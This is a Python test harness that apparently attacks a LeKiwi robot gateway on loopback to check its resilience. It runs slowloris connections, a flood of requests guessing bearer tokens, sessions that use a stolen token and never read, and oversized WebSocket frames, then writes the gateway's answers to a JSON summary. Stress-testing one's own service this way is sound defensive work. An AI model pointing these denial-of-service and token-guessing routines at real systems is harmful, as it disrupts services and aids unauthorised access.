#!/usr/bin/env python3
"""The attacker of bench/hostile.sh: hostile clients at a LeKiwi gateway, for a bounded time.

Four attacks run at once (each can be turned off with a count of 0), all from loopback source
addresses other than 127.0.0.1 (127.0.1.1, 127.0.1.2, ...), so that per-address limits see
attackers apart from the simulated robots, which connect from 127.0.0.1:

  slowloris   N connections that never finish their request: a third send the headers one byte a
              second, a third send 400 KiB of one header line and stop, a third connect and send
              nothing. Whenever the gateway closes one, it is opened again after a second.
  flood       R requests a second, each on a new connection, with a random bearer token: WebSocket
              upgrades at /v1/agent, legacy polls at /v1/poll and blob downloads at /v1/blobs/...,
              naming real robots and made-up namespaces and robots (token guessing).
  stuck       M robots with a stolen (valid) token that open a session, send heartbeats at 10/s and
              never read a byte (receive buffer 4 KiB).
  oversized   K robots with a stolen token that open a session and send a 2 MiB text frame and a
              300 KiB one, again and again.

Writes a JSON summary (what was opened, how the gateway answered) to --json. Standard library only;
WebSocket frames are written by hand (RFC 6455, client frames masked with a zero key).
"""

import argparse
import asyncio
import base64
import json
import os
import random
import socket
import time
from collections import Counter

STATS = Counter()
# Answers to flood requests: HTTP status line codes.
FLOOD_STATUS = Counter()


def sources(n):
    """n loopback source addresses, none of them 127.0.0.1."""
    return [f"127.0.1.{1 + i % 250}" for i in range(n)]


async def open_from(src, host, port, rcvbuf=None):
    """A TCP connection to host:port from source address src."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    if rcvbuf:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    sock.bind((src, 0))
    loop = asyncio.get_running_loop()
    try:
        await asyncio.wait_for(loop.sock_connect(sock, (host, port)), 5)
    except BaseException:
        sock.close()
        raise
    return await asyncio.open_connection(sock=sock)


def ws_frame(payload: bytes, opcode=1) -> bytes:
    """One final client frame; the masking key is zero, so the payload goes as it is."""
    n = len(payload)
    if n < 126:
        head = bytes([0x80 | opcode, 0x80 | n])
    elif n < 65536:
        head = bytes([0x80 | opcode, 0x80 | 126]) + n.to_bytes(2, "big")
    else:
        head = bytes([0x80 | opcode, 0x80 | 127]) + n.to_bytes(8, "big")
    return head + b"\0\0\0\0" + payload


def upgrade_request(host, port, token, robot, path="/v1/agent"):
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n"
        f"Authorization: Bearer {token}\r\nx-lekiwi-robot: {robot}\r\n\r\n"
    ).encode()


async def closed_by_peer(reader, timeout):
    """True when the peer closed (EOF or reset) within `timeout` seconds; reads and drops data."""
    try:
        while True:
            data = await asyncio.wait_for(reader.read(65536), timeout)
            if not data:
                return True
    except asyncio.TimeoutError:
        return False
    except (ConnectionError, OSError):
        return True


def close(writer):
    try:
        writer.transport.abort()
    except Exception:
        pass


# ---- slowloris ----------------------------------------------------------------------------------
async def slowloris_one(i, src, host, port, deadline):
    kind = ("drip", "big", "idle")[i % 3]
    while time.monotonic() < deadline:
        try:
            reader, writer = await open_from(src, host, port)
        except (OSError, asyncio.TimeoutError):
            STATS["slowloris_connect_failed"] += 1
            await asyncio.sleep(1)
            continue
        STATS[f"slowloris_{kind}_opened"] += 1
        opened = time.monotonic()
        try:
            if kind == "drip":
                writer.write(f"GET /v1/agent HTTP/1.1\r\nHost: {host}\r\n".encode())
                await writer.drain()
                header = b"X-Slow: " + b"a" * 100000
                for b in header:
                    if time.monotonic() >= deadline:
                        break
                    writer.write(bytes([b]))
                    await writer.drain()
                    if await closed_by_peer(reader, 1.0):
                        break
            elif kind == "big":
                writer.write(b"GET /v1/agent HTTP/1.1\r\nHost: x\r\nX-Pad: " + b"a" * (400 * 1024))
                await writer.drain()
                await closed_by_peer(reader, max(0.0, deadline - time.monotonic()))
            else:
                await closed_by_peer(reader, max(0.0, deadline - time.monotonic()))
        except (ConnectionError, OSError):
            pass
        if time.monotonic() < deadline:
            STATS[f"slowloris_{kind}_closed_by_gateway"] += 1
            STATS["slowloris_held_seconds_total"] += int(time.monotonic() - opened)
        close(writer)
        await asyncio.sleep(1)


# ---- token-guessing flood -----------------------------------------------------------------------
async def flood_one(src, host, port, namespace, robots):
    token = "lkr_" + os.urandom(24).hex()
    real = f"{namespace}/{random.choice(robots)}" if robots else f"{namespace}/sim-00001"
    made_up = f"ns-{os.urandom(4).hex()}/robot-{os.urandom(4).hex()}"
    robot = real if random.random() < 0.5 else made_up
    what = random.choice(("agent", "poll", "blob"))
    if what == "agent":
        request = upgrade_request(host, port, token, robot)
    elif what == "poll":
        request = (
            f"GET /v1/poll?robot={robot}&version=1.0.0 HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: Bearer {token}\r\nConnection: close\r\n\r\n"
        ).encode()
    else:
        request = (
            f"GET /v1/blobs/sha256:{os.urandom(32).hex()} HTTP/1.1\r\nHost: {host}\r\n"
            f"Authorization: Bearer {token}\r\nx-lekiwi-robot: {robot}\r\nConnection: close\r\n\r\n"
        ).encode()
    try:
        reader, writer = await open_from(src, host, port)
    except (OSError, asyncio.TimeoutError):
        FLOOD_STATUS["connect_failed"] += 1
        return
    try:
        writer.write(request)
        await writer.drain()
        line = await asyncio.wait_for(reader.readline(), 5)
        parts = line.split()
        FLOOD_STATUS[f"{what}_{parts[1].decode() if len(parts) > 1 else 'closed'}"] += 1
    except asyncio.TimeoutError:
        FLOOD_STATUS[f"{what}_timeout"] += 1
    except (ConnectionError, OSError):
        FLOOD_STATUS[f"{what}_reset"] += 1
    finally:
        close(writer)


async def flood(rate, srcs, host, port, namespace, robots, deadline):
    tasks = set()
    i = 0
    start = time.monotonic()
    while time.monotonic() < deadline:
        due = start + i / rate
        now = time.monotonic()
        if due > now:
            await asyncio.sleep(due - now)
        if len(tasks) < 2000:
            t = asyncio.create_task(flood_one(srcs[i % len(srcs)], host, port, namespace, robots))
            tasks.add(t)
            t.add_done_callback(tasks.discard)
            STATS["flood_requests"] += 1
        else:
            STATS["flood_skipped_too_many_open"] += 1
        i += 1
    if tasks:
        await asyncio.wait(tasks, timeout=6)


# ---- sessions with a stolen token ---------------------------------------------------------------
HELLO = json.dumps(
    {"type": "hello", "protocol_version": 1, "agent_version": "0.0.0-attacker"}
).encode()


async def session(src, host, port, token, robot, rcvbuf=None):
    """An open session: the upgrade answered 101; returns (reader, writer) or None."""
    try:
        reader, writer = await open_from(src, host, port, rcvbuf)
    except (OSError, asyncio.TimeoutError):
        return None
    try:
        writer.write(upgrade_request(host, port, token, robot))
        await writer.drain()
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        if b" 101 " not in head.split(b"\r\n", 1)[0]:
            STATS["session_refused"] += 1
            close(writer)
            return None
        writer.write(ws_frame(HELLO))
        await writer.drain()
        return reader, writer
    except (asyncio.TimeoutError, asyncio.IncompleteReadError, ConnectionError, OSError):
        close(writer)
        return None


async def stuck_one(src, host, port, token, robot, deadline):
    while time.monotonic() < deadline:
        opened = await session(src, host, port, token, robot, rcvbuf=4096)
        if opened is None:
            await asyncio.sleep(1)
            continue
        _, writer = opened
        STATS["stuck_sessions_opened"] += 1
        began = time.monotonic()
        try:
            while time.monotonic() < deadline:
                beat = {"type": "heartbeat", "sent_at_ms": int(time.time() * 1000)}
                writer.write(ws_frame(json.dumps(beat).encode()))
                await asyncio.wait_for(writer.drain(), 5)
                await asyncio.sleep(0.1)
        except (asyncio.TimeoutError, ConnectionError, OSError):
            STATS["stuck_sessions_dropped_by_gateway"] += 1
            STATS["stuck_held_seconds_total"] += int(time.monotonic() - began)
        close(writer)
        await asyncio.sleep(1)


async def oversized_one(src, host, port, token, robot, deadline):
    huge = b'{"type":"event","seq":1,"ts_ms":0,"kind":"x","severity":"info","message":"'
    big = huge + b"a" * (300 * 1024) + b'"}'
    huge = huge + b"a" * (2 * 1024 * 1024) + b'"}'
    while time.monotonic() < deadline:
        opened = await session(src, host, port, token, robot)
        if opened is None:
            await asyncio.sleep(1)
            continue
        reader, writer = opened
        STATS["oversized_sessions_opened"] += 1
        try:
            for frame in (big, huge):
                writer.write(ws_frame(frame))
                await asyncio.wait_for(writer.drain(), 10)
                STATS["oversized_frames_sent"] += 1
            if await closed_by_peer(reader, 5):
                STATS["oversized_sessions_closed_by_gateway"] += 1
        except (asyncio.TimeoutError, ConnectionError, OSError):
            STATS["oversized_sessions_closed_by_gateway"] += 1
        close(writer)
        await asyncio.sleep(0.5)


async def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True, help="the gateway's agent port")
    p.add_argument("--duration", type=float, required=True, help="seconds")
    p.add_argument("--namespace", required=True, help="namespace of the real robots")
    p.add_argument("--robots-file", help="names of real robots (one per line) the flood names")
    p.add_argument("--token-file", help="a stolen robot token (for --stuck and --oversized)")
    p.add_argument("--stuck-prefix", default="stuck-")
    p.add_argument("--oversized-prefix", default="big-")
    p.add_argument("--slowloris", type=int, default=1000)
    p.add_argument("--flood-rate", type=float, default=200)
    p.add_argument("--stuck", type=int, default=50)
    p.add_argument("--oversized", type=int, default=10)
    p.add_argument("--sources", type=int, default=16, help="distinct loopback source addresses")
    p.add_argument("--json", required=True)
    a = p.parse_args()

    deadline = time.monotonic() + a.duration
    srcs = sources(a.sources)
    robots = []
    if a.robots_file:
        with open(a.robots_file) as f:
            robots = [line.strip() for line in f if line.strip()]
    token = open(a.token_file).read().strip() if a.token_file else None
    tasks = [
        slowloris_one(i, srcs[i % len(srcs)], a.host, a.port, deadline) for i in range(a.slowloris)
    ]
    if a.flood_rate > 0:
        tasks.append(flood(a.flood_rate, srcs, a.host, a.port, a.namespace, robots, deadline))
    if token:
        for i in range(a.stuck):
            robot = f"{a.namespace}/{a.stuck_prefix}{i + 1:03d}"
            tasks.append(stuck_one(srcs[i % len(srcs)], a.host, a.port, token, robot, deadline))
        for i in range(a.oversized):
            robot = f"{a.namespace}/{a.oversized_prefix}{i + 1:03d}"
            tasks.append(oversized_one(srcs[i % len(srcs)], a.host, a.port, token, robot, deadline))
    started = time.monotonic()
    await asyncio.wait_for(asyncio.gather(*tasks), a.duration + 30)
    summary = dict(STATS)
    summary["flood_answers"] = dict(FLOOD_STATUS)
    summary["seconds"] = round(time.monotonic() - started, 1)
    with open(a.json, "w") as f:
        json.dump(summary, f, indent=1, sort_keys=True)


if __name__ == "__main__":
    asyncio.run(main())
